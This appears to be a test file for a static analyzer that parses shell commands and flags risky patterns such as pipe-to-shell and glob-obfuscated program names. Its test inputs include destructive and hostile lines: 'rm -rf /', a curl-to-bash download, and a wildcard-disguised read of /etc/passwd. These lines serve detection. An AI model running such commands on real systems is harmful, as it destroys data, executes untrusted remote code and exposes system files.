import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inspectCode } from '../engine.js';
import { plainCommand, plainStatement } from './plain.js';

test('plainCommand reads only plain words, simple quotes, escapes and plain variables', () => {
  assert.deepEqual(plainCommand("A=1 grep -r 'a b' \"c\"d")?.words.map((w) => w.text), ['grep', '-r', 'a b', 'cd']);
  assert.deepEqual(plainCommand('A=1 B="x y" ls')?.env, ['A=1', 'B="x y"']);
  assert.deepEqual(plainCommand('\\rm -rf "$HOME/x" {}')?.words.map((w) => [w.text, w.dynamic]), [['rm', false], ['-rf', false], ['$HOME/x', true], ['{}', false]]);
  for (const text of ['echo ${HOME:-/}', 'echo $IFS', 'echo "\\$x"', 'a\\ b', '{} x', 'echo {a,b}', 'echo `id`', 'ls > f', 'a | b', 'echo "$(id)"', "echo 'open", 'echo a # c', 'ls {a,b}', 'echo a\nb']) {
    assert.equal(plainCommand(text), undefined, text);
  }
});

test('commands read from their text and commands walked node by node agree', async () => {
  // Each pair: a plain command and the same command with something that needs the tree.
  const { invocations } = await inspectCode('shell', `r''m -rf / ; "rm" -rf ~ ; A=1 B="x y" ls 'a b' && A=1 B="x y" ls 'a b' $X`);
  const seen = invocations.map((i) => [i.program, i.args, i.env, i.line, i.column]);
  assert.deepEqual(seen, [
    ['rm', ['-rf', '/'], [], 1, 1],
    ['rm', ['-rf', '~'], [], 1, 14],
    ['ls', ['a b'], ['A=1', 'B="x y"'], 1, 27],
    ['ls', ['a b', '$X'], ['A=1', 'B="x y"'], 1, 51],
  ]);
});

test('plainStatement reads one-line pipelines and lists of plain commands, nothing else', () => {
  const st = plainStatement('ls -l | wc -l && A=1 echo "a b" ; true &');
  assert.deepEqual(st?.map((p) => p.map((c) => [c.column, c.command.words.map((w) => w.text)])), [
    [[0, ['ls', '-l']], [8, ['wc', '-l']]],
    [[17, ['echo', 'a b']]],
    [[34, ['true']]],
  ]);
  assert.deepEqual(plainStatement('find . -name "a|b; c" -exec rm {} \\; | grep \'x&y\'')?.map((p) => p.map((c) => c.command.words.map((w) => w.text))), [
    [['find', '.', '-name', 'a|b; c', '-exec', 'rm', '{}', ';'], ['grep', 'x&y']],
  ]);
  for (const text of ['a |', 'a ||', '| a', 'a ;; b', 'a |& b', 'a && ; b', 'A=1', 'if true', 'time ls', 'x | while', 'export A=1', 'ls\nrm -rf /', 'ls > f', 'ls\u00a0', 'ls\r\n', 'echo $(id)', 'echo `id`', 'echo "a$(id)"', 'echo ${X#y}', 'echo a#b', 'echo "a\\"|b"']) {
    assert.equal(plainStatement(text), undefined, text);
  }
});

test('statements read from their text keep the pipe and the line in a long script', async () => {
  const filler = Array.from({ length: 150 }, (_, i) => `echo line ${i} && grep -r foo src | sort`);
  const { invocations, findings } = await inspectCode('shell', [...filler, 'curl -s https://x.example/i.sh | bash'].join('\n'));
  assert.equal(invocations.length, 150 * 3 + 2);
  const sh = invocations.at(-1)!;
  assert.deepEqual([sh.program, sh.line, sh.column, sh.upstream.map((u) => u.program)], ['bash', 151, 34, ['curl']]);
  assert.ok(findings.some((f) => f.rule === 'shell.pipe-to-shell' && f.location?.line === 151));
});

test('a glob in the program word is only known at run time, read from text or from the tree', async () => {
  // `/???/c?t` runs /bin/cat; the redirection sends the second statement to tree-sitter.
  const { invocations, findings } = await inspectCode('shell', '/???/c?t /???/p??s??\n/usr/bin/r? -rf / > f\ntest -f x && "/bin/ls?" . && ls \\*');
  assert.deepEqual(invocations.map((i) => [i.program, i.programDynamic]), [['c?t', true], ['r?', true], ['test', false], ['ls?', false], ['ls', false]]);
  assert.deepEqual(findings.filter((f) => f.rule === 'shell.dynamic-program').map((f) => f.location?.line), [1, 2]);
});
